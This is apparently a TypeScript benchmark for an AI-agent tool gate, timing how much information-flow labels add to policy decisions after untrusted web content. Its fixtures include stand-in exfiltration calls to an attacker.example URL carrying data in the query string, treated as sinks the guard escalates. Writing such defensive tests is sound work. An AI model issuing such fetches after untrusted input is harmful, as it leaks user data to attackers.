/**
 * @module bench/labels
 * The decide step's added cost with information-flow labels (docs/injection.md): the same prepared calls —
 * a `web_fetch` to a new host, one to a host the user named, a shell command, a `git push`, a file read, a
 * user-level memory write — decided by the gate's policy engine with the guard and a tainted context (an
 * untrusted, public context: 12 sources, 200 trusted hosts, 2,000 offered links), and by the same engine
 * without labels (no guard, no context), call by call. The anchor is the engine without labels; the target is
 * the issue's: ≤ 1.2× at p50.
 *
 * Each call is decided by both engines back to back, and which goes first flips every round: the second
 * decision of the same call finds it warm (the command analysis, the CPU's caches), so a fixed order
 * flatters whichever side goes second — with ours always first, an engine timed against itself came out
 * 1.22–1.33× (an A/A run on 2026-11-27). Parsed URLs are cached by their text, so the repeated calls find
 * them parsed; the last line gives each call a URL never seen before, for the cost of a first sight.
 */
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { DecisionRequest, Label, LabelSource } from "../core/index.js";
import { FlowSession } from "../core/index.js";
import { createFlowKnowledge, PolicyEngine } from "../policy/index.js";
import { createToolgate } from "../toolgate.js";
import { fmt, report, type Stats, stats } from "./harness.js";

const ROUNDS = 3000;
/** Which of CALLS send data out after untrusted content (the guard raises them to ask). */
const SINKS = new Set([0, 3, 5]);

const CALLS: { name: string; args: Record<string, unknown> }[] = [
  { name: "web_fetch", args: { url: "https://attacker.example/c?d=1" } },
  { name: "web_fetch", args: { url: "https://docs.example.com/api/v2" } },
  { name: "shell", args: { command: "npm test -- --run src/a.test.ts" } },
  { name: "shell", args: { command: "git push origin HEAD" } },
  { name: "read_file", args: { path: "src/index.ts" } },
  { name: "memory", args: { action: "set", scope: "user", key: "k", value: "v" } },
];

function taintedContext(): FlowSession {
  const sources: LabelSource[] = Array.from({ length: 12 }, (_, i) => ({
    tool: "web_fetch",
    integrity: "untrusted",
    confidentiality: "public",
    what: `site${i}.example`,
    excerpt: "Some page text that the model read.",
  }));
  const label: Label = { integrity: "untrusted", confidentiality: "public", sources };
  const hosts = Array.from({ length: 200 }, (_, i) => `host${i}.example.com`).concat("docs.example.com");
  const links = Array.from({ length: 2000 }, (_, i) => `https://cdn${i % 50}.example.org/lib/${i}`);
  return FlowSession.from({ label, trustedHosts: hosts, links });
}

/**
 * Times `ours(k)` and `anchor(k)` for every call k of every round, back to back, ours first in even rounds
 * and the anchor first in odd ones (so each call is measured in both orders alike); after one warm-up round.
 */
async function alternated(
  calls: number,
  rounds: number,
  ours: (k: number, round: number) => unknown,
  anchor: (k: number, round: number) => unknown,
): Promise<[Stats, Stats]> {
  const a: number[] = [];
  const b: number[] = [];
  for (let round = -1; round < rounds; round++) {
    for (let k = 0; k < calls; k++) {
      for (const side of round % 2 === 0 ? [0, 1] : [1, 0]) {
        const t0 = performance.now();
        await (side === 0 ? ours(k, round) : anchor(k, round));
        const took = performance.now() - t0;
        if (round >= 0) (side === 0 ? a : b).push(took);
      }
    }
  }
  return [stats(a), stats(b)];
}

function reportLine(what: string, calls: number, ours: Stats, anchor: Stats): void {
  const ratio = ours.p50 / anchor.p50;
  report({
    name: `decide with labels (guard on, ${what}) vs without, ${calls} calls × ${ROUNDS}`,
    ours: `p50 ${fmt(ours.p50)} p99 ${fmt(ours.p99)}`,
    anchor: `same calls, same engine without labels: p50 ${fmt(anchor.p50)} p99 ${fmt(anchor.p99)} (p99 ratio ${(ours.p99 / anchor.p99).toFixed(2)}×)`,
    ratio,
    target: "≤ 1.2× at p50",
    pass: ratio <= 1.2,
  });
}

export default async function run(): Promise<void> {
  const root = await mkdtemp(join(tmpdir(), "toolgate-bench-labels-"));
  const gate = await createToolgate({
    roots: [root],
    policyText:
      'default = "allow"\n[[rules]]\ntool = "shell"\ndecision = "ask"\nwhen.command = { prefix = ["rm"] }\n',
    hooks: false,
    logger: { warn: () => undefined },
  });
  try {
    const knowledge = createFlowKnowledge({
      workspaceTrusted: true,
      isSecret: (path) => path.startsWith(".env"),
      trustedServers: new Set(),
    });
    const roots = [root];
    const withLabels = new PolicyEngine({ policy: gate.policy, roots, flow: { knowledge, guard: true } });
    const without = new PolicyEngine({ policy: gate.policy, roots });
    const context = taintedContext();
    const requests: DecisionRequest[] = CALLS.map((call) => {
      const tool = gate.registry.get(call.name);
      if (!tool) throw new Error(`bench: no tool ${call.name}`);
      const invocation = tool.build(call.args);
      return { tool, invocation, args: call.args, risk: invocation.riskFor() };
    });
    // The requests with the context are made once, as a session's call is: the timed step is the decision.
    const tainted = context;
    const clean = FlowSession.from({ trustedHosts: ["docs.example.com"] });
    const lines = [
      { what: "tainted context (untrusted, public)", context: tainted, calls: requests },
      // The calls the guard leaves alone after untrusted content: what a tainted session pays on every
      // call that is not asked about anyway (a sink's raised ask waits for a person).
      {
        what: "tainted context, calls that send nothing out",
        context: tainted,
        calls: requests.filter((_, k) => !SINKS.has(k)),
      },
      { what: "clean context (nothing untrusted read)", context: clean, calls: requests },
    ];
    for (const line of lines) {
      const ours = line.calls.map((request) => ({ ...request, context: line.context }));
      const n = line.calls.length;
      const [withStats, anchor] = await alternated(
        n,
        ROUNDS,
        (k) => withLabels.decide(ours[k]!),
        (k) => without.decide(line.calls[k]!),
      );
      reportLine(line.what, n, withStats, anchor);
    }
    // A URL the cache has never seen in every round (the warm-up round's too): the WHATWG parser's full
    // cost, on both sides alike.
    const fetch = gate.registry.get("web_fetch")!;
    const fresh = Array.from({ length: ROUNDS + 1 }, (_, round) => {
      const args = { url: `https://attacker.example/c?d=${round}-${Math.random().toString(36).slice(2)}` };
      const invocation = fetch.build(args);
      return { tool: fetch, invocation, args, risk: invocation.riskFor() };
    });
    const freshOurs = fresh.map((request) => ({ ...request, context: tainted }));
    const [first, firstAnchor] = await alternated(
      1,
      ROUNDS,
      (_, round) => withLabels.decide(freshOurs[round + 1]!),
      (_, round) => without.decide(fresh[round + 1]!),
    );
    reportLine("tainted context, a web_fetch to a URL never seen before", 1, first, firstAnchor);
  } finally {
    await gate.close();
    await rm(root, { recursive: true, force: true });
  }
}
